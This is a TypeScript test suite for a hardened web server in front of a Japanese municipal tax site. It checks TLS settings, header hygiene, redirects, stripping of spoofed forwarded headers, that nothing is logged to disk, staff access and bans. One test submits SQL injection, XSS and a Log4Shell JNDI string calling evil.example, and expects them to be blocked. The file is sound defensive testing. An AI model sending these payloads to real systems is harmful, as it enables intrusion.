import { execFile, spawnSync } from 'node:child_process'
import { rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { connect } from 'node:tls'
import { setTimeout } from 'node:timers/promises'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { root } from './command.ts'
import { edgeHost, publicName, staffName, type EdgeHost } from './edge-host.ts'

/** An amount that nothing but the listener may see. */
const canary = '5001234987'

describe('the web server of a host', { timeout: 60_000 }, () => {
  let running: EdgeHost | undefined
  const host = (): EdgeHost => {
    if (running === undefined) throw new Error('it does not run')
    return running
  }
  beforeAll(async () => {
    running = await edgeHost(root)
  }, 60_000)
  afterAll(() => running?.close())

  const shakes = (
    maxVersion: 'TLSv1.1' | 'TLSv1.2' | 'TLSv1.3',
    servername: string,
  ): Promise<string> =>
    new Promise((resolve) => {
      const versions = {
        minVersion: maxVersion,
        maxVersion,
        ciphers: 'DEFAULT:@SECLEVEL=0',
      } as const
      const socket = connect({
        host: '127.0.0.1',
        port: host().ports.tls,
        servername,
        rejectUnauthorized: false,
        ...versions,
      })
      socket.on('secureConnect', () => {
        resolve(socket.getProtocol() ?? '')
        socket.destroy()
      })
      socket.on('error', () => resolve('refused'))
    })

  it('speaks TLS 1.2 and 1.3 alone, and to nobody who asks for another name (M17)', async () => {
    expect(await shakes('TLSv1.1', publicName)).toBe('refused')
    expect(await shakes('TLSv1.2', publicName)).toBe('TLSv1.2')
    expect(await shakes('TLSv1.3', publicName)).toBe('TLSv1.3')
    expect(await shakes('TLSv1.3', 'evil.example')).toBe('refused')
    expect(await shakes('TLSv1.3', staffName)).toBe('refused')
  })

  /** What comes back for a form, with its headers. */
  const sent = (body: string, ...more: readonly string[]): Promise<string> => {
    const to = ['--resolve', `${publicName}:${host().ports.tls}:127.0.0.1`]
    const url = `https://${publicName}:${host().ports.tls}/t/999997/ja/no-script/`
    const args = ['-ski', ...to, ...more, '--data-binary', '@-', url]
    return new Promise((resolve) => {
      const child = execFile('curl', args, (_, said) => resolve(said))
      child.stdin?.on('error', () => undefined).end(body)
    })
  }

  it('promises TLS and names no program, whatever it answers', async () => {
    const { length } = host().seen
    const answers = [
      await host().ask(),
      await host().ask({ path: '/missing' }),
      await host().ask({ path: '/%zz' }),
      await host().ask({ headers: { 'x-long': 'x'.repeat(9000) } }),
    ]
    expect(answers.map(({ status }) => status)).toEqual([200, 404, 400, 400])
    for (const { headers, body } of answers) {
      expect(headers['strict-transport-security']).toContain('max-age=31536000')
      expect(headers['server']).toBeUndefined()
      expect(headers['x-powered-by']).toBeUndefined()
      expect(body).not.toMatch(/nginx/i)
    }
    expect(answers[3]?.body).toContain('このページは開けません')
    // It is told before it sends all of it.
    expect(await sent('x'.repeat(200_000), '-H', 'Expect: 100-continue')).toMatch(
      /^HTTP\/[\d.]+ 413[\s\S]*このページは開けません/,
    )
    expect(host().seen.length).toBe(length + 2)
  })

  it('leads from http to the same page, under its own name alone', async () => {
    const over = (name: string): string =>
      spawnSync('curl', [
        '-si',
        '-H',
        `Host: ${name}`,
        `http://127.0.0.1:${host().ports.plain}/t/142051/ja/`,
      ]).stdout.toString()
    expect(over(publicName)).toMatch(
      /301 [\s\S]*location: https:\/\/zei\.example\.lg\.jp\/t\/142051\/ja\//i,
    )
    expect(over('evil.example')).toBe('')
  })

  it('tells the listener who really asks, and passes on nothing that was made up', async () => {
    const made = {
      'x-forwarded-for': '1.2.3.4',
      'x-device-verified': 'SUCCESS',
      'x-forwarded-proto': 'http',
      forwarded: 'for=1.2.3.4',
      'x-real-ip': '1.2.3.4',
    }
    await host().ask({ headers: made, from: '127.0.0.9' })
    const headers = host().seen.at(-1)?.headers ?? {}
    expect(headers).toMatchObject({
      'x-forwarded-for': '127.0.0.9',
      'x-real-ip': '127.0.0.9',
      'x-forwarded-proto': 'https',
      host: publicName,
    })
    expect(headers['forwarded']).toBeUndefined()
    expect(headers['x-device-verified']).not.toBe('SUCCESS')
  })

  it('writes neither a query nor what was sent to any file', async () => {
    // Where nothing can be put, a body that went to the disk would be a 500.
    rmSync(join(host().folder, 'temp-client_body'), { recursive: true })
    await host().ask({
      path: `/t/142051/ja/no-script/?q=${canary}`,
      body: `kyuyo=${canary}&${'x'.repeat(150_000)}`,
    })
    expect(host().seen.at(-1)?.body).toContain(canary)
    await setTimeout(100)
    expect(host().filesWith(canary)).toEqual([])
  })

  it('lets no attack through to the listener, and every Japanese sentence', async () => {
    const { length } = host().seen
    for (const value of [
      "1' OR '1'='1",
      '<script>alert(1)</script>',
      '${jndi:ldap://evil.example/a}',
    ])
      expect(await sent(`biko=${encodeURIComponent(value)}`)).toMatch(
        /^HTTP\/[\d.]+ 403[\s\S]*このページは開けません/,
      )
    expect(host().seen.length).toBe(length)
    for (const value of [
      'select と書いてあるメニュー',
      '収入 < 1,030,000円',
      '（5％）です。',
      'A&B株式会社',
    ])
      expect(await sent(`biko=${encodeURIComponent(value)}`)).toMatch(/^HTTP\/[\d.]+ 200/)
  })

  it('is open to staff on its own address alone', async () => {
    const there = { address: '127.0.0.2', name: staffName }
    expect((await host().ask({ ...there, from: '127.0.0.9' })).body).toBe('console')
    await expect(host().ask({ ...there, from: '127.0.0.77' })).rejects.toThrow(/hang up|ECONNRESET/)
    await expect(host().ask({ ...there, name: publicName, from: '127.0.0.9' })).rejects.toThrow(
      /unrecognized name|alert|hang up/,
    )
  })

  it('answers 503 where a municipality is stopped, and 403 to whom the detection keeps out', async () => {
    writeFileSync(join(host().folder, 'flags/stop/142051'), '<h1>止めています</h1>')
    const stopped = await host().ask({ path: '/t/142051/ja/' })
    expect(stopped).toMatchObject({ status: 503, body: '<h1>止めています</h1>' })
    expect((await host().ask({ path: '/t/131016/ja/' })).status).toBe(200)
    rmSync(join(host().folder, 'flags/stop/142051'))
    writeFileSync(join(host().folder, 'bans/bans.geo'), '127.0.0.66 1;\n')
    await host().reload()
    expect((await host().ask({ from: '127.0.0.66' })).status).toBe(403)
    expect((await host().ask()).status).toBe(200)
  })

  it('goes on with one listener, and says so in a sentence with none', async () => {
    await host().end(0)
    for (let n = 0; n < 10; n += 1) expect((await host().ask()).body).toBe('two')
    await host().end(1)
    const answer = await host().ask({ path: `/?q=${canary}` })
    expect(answer.status).toBe(503)
    expect(answer.body).toContain('いまは答えられません')
    expect(answer.headers['retry-after']).toBe('60')
    expect(host().filesWith(canary)).toEqual([])
  })
})
